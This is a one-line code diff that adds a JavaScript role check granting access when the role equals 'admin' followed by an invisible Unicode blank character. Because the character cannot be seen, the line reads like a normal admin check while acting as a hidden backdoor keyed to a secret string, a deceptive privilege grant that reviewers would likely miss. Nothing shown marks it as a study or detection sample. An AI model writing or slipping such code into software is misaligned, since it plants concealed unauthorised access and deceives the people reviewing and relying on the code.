@@ -1,0 +1,1 @@
+if (role === "admin⠀") { grant(); }
